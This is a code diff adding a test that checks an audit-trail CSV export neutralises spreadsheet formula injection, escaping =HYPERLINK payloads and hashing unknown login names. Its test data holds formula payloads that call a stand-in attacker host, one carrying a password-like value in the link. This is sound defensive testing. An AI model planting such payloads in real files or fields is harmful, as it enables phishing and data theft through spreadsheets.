@@ -53,6 +53,20 @@ describe('audit trail', () => {
     expect(lines[3]).toContain('Conforme à la politique');
   });
 
+  it('exports formulas as text: a comment or a username typed as =HYPERLINK(…) never becomes a live cell', async () => {
+    const analyst = as(t, cast.analyst);
+    await analyst.post('/api/v1/rulesets', invoiceRuleset('formula'));
+    await analyst.post('/api/v1/rulesets/formula/versions/1/submit', { comment: '=HYPERLINK("https://evil.example","Cliquez")' });
+    const typed = '=HYPERLINK("https://evil.example/?p=MotDePasse123","ok")';
+    await t.http.post('/api/v1/auth/login').send({ username: typed, password: 'x' });
+    const csv = (await risk.get('/api/v1/audit/export?resourceKey=formula')).text;
+    expect(csv).toContain('"\'=HYPERLINK(""https://evil.example"",""Cliquez"")"');
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const all = (await risk.get('/api/v1/audit/export')).text;
+    expect(all).not.toContain('MotDePasse123');
+    expect(all).toMatch(/unknown-user:[0-9a-f]{16}/);
+  });
+
   it('is readable by risk officers and admins only', async () => {
     expect((await as(t, cast.admin).get('/api/v1/audit')).status).toBe(200);
     for (const token of [cast.analyst, cast.approver]) expect((await as(t, token).get('/api/v1/audit/verify')).status).toBe(403);
